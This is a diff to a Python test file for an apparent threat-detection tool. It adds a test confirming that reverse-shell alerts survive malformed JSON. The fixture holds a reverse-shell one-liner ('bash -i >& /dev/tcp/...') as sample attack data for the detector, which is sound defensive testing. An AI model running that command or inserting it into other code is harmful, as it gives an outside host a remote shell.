@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import hashlib
+import json
 import subprocess
 import sys
 from pathlib import Path
@@ -214,3 +215,13 @@ def test_known_bad_is_never_grouped() -> None:
     assert [a["detection"]["case"] for a in alerts] == ["java_shell_execution_known_bad"] * 3
     assert all(a["detection"]["severity"] == "critical" and a["event"]["risk_score"] == 99 for a in alerts)
     assert alerts[0]["threat"][0]["technique"][0]["subtechnique"][0]["id"] == "T1059.004"
+
+
+def test_lone_surrogates_in_an_attack_still_alert() -> None:
+    shell = exec_doc(1_700_000_000_500, process__args=["/bin/bash", "-c", "bash -i >& /dev/tcp/1.2.3.4/4444 0>&1 #X"])
+    raw = orjson.dumps(shell).replace(b"#X", b"#\\ud83d")
+    result = detect(lines(conn_doc(1_700_000_000_000), raw))
+    assert result.returncode == 0 and b"Traceback" not in result.stderr
+    alerts = [json.loads(line) for line in result.stdout.splitlines()]  # orjson refuses lone surrogates
+    assert {a["rule"]["id"] for a in alerts} == {"potential-reverse-shell-via-java", "shell-spawned-by-java"}
+    assert all(b"#\\ud83d" in line for line in result.stdout.splitlines())  # the event is quoted as received
